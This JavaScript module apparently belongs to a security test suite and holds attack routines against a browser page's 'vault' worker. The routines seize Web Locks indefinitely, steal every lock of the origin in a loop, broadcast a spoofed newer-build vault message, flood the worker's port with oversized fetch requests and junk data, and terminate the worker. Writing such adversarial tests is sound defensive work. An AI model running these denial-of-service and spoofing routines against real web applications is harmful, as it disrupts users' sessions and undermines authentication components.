// Scripts that keep others from working: with the locks, with floods, by ending what they can end.
import { loot } from "./attacker.js";
import * as seen from "./ports.js";

const { tw } = window;
const pause = (ms) => new Promise((resolve) => setTimeout(resolve, ms));

/** Takes a lock and never lets go of it. */
export function holdLock(attack, name) {
  return new Promise((held) => {
    const forever = (lock) => {
      loot(attack, lock.name);
      held(lock.name);
      return new Promise(() => {});
    };
    navigator.locks.request(name, forever).catch((error) => {
      loot(attack, error.name);
      tw.lost = error.name;
    });
  });
}

/** Steals every lock of the origin, over and over. */
export function stealLocks(attack) {
  tw.stolen = 0;
  const again = async () => {
    const { held = [], pending = [] } = await navigator.locks.query();
    for (const { name } of [...held, ...pending]) {
      loot(attack, name);
      navigator.locks.request(name, { steal: true }, () => pause(5)).catch(() => {});
      tw.stolen += 1;
    }
  };
  tw.thief = setInterval(again, 20);
}

export function stealNoMore() {
  clearInterval(tw.thief);
  return tw.stolen;
}

/** Says what a vault of a newer build says, and waits until that was heard. */
export async function announce(attack, name) {
  const channel = new BroadcastChannel(name);
  const word = { epoch: Date.now() + 1_000_000, event: "vault 1 0123456789abcdef" };
  channel.postMessage(word);
  loot(attack, word);
  await pause(50);
  channel.close();
}

/** Gives the vault more to read than anybody needs. */
export async function flood(attack) {
  const port = seen.connect();
  let answers = 0;
  port.onmessage = ({ data }) => {
    answers += 1;
    loot(attack, data);
  };
  port.postMessage(seen.hello());
  const url = "x".repeat(100_000);
  for (let count = 0; count < 50; count += 1) {
    port.postMessage({ type: "fetch", id: count, url, method: "GET", headers: [], options: [] });
    port.postMessage({ junk: new Uint8Array(100_000) });
  }
  for (let count = 0; count < 1000; count += 1) port.postMessage({ type: "ping" });
  for (let tries = 0; tries < 2000 && answers < 1001; tries += 1) await pause(10);
  port.postMessage({ type: "close" });
  return answers;
}

/** Ends the page's own vault where a page can, and else the page's port to it. */
export async function end(attack, url) {
  loot(attack, seen.started());
  const worker = seen.worker();
  if (worker) worker.terminate();
  else for (const port of seen.ports()) port.close();
  const call = tw.auth.fetch(url).then(
    ({ status }) => status,
    (error) => error.code,
  );
  return (await Promise.race([call, pause(1500)])) ?? "silence";
}
